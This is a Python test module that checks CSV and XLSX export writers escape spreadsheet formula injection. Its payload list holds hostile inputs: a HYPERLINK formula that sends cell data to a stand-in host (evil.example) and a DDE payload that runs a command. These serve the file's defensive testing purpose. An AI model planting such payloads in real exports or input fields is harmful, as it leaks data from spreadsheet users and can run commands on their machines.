"""CSV and XLSX exports neutralise formulas: no cell that a user typed can run in a spreadsheet.

``accounts/tests/test_audit_log_export.py`` shows one ``=HYPERLINK`` through the audit log
export; this module sends every character a spreadsheet starts a formula with (and DDE
payloads) through both writers: ``accounts.exports.csv_response`` (the audit log and every
CSV) and ``reporting.exports.xlsx_response`` (the reporting downloads).
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from accounts.exports import csv_response

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def test_the_csv_writer_neutralises_every_formula_start():
    response = csv_response("export.csv", ["kolom", *PAYLOADS], [[p, p] for p in PAYLOADS])

    cells = csv_cells(response)

    assert len(cells) == (1 + len(PAYLOADS)) + 2 * len(PAYLOADS)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=1+1" in cells


def test_the_xlsx_writer_neutralises_every_formula_start():
    exports = pytest.importorskip("reporting.exports")
    response = exports.xlsx_response(
        "export.xlsx", [("Blad", ["kolom", *PAYLOADS], [[p, 3, -4.5] for p in PAYLOADS])]
    )

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]

    assert response["Content-Disposition"].startswith("attachment;")
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    # Numbers stay numbers: a negative amount is not text and not a formula.
    assert -4.5 in [c.value for c in cells]
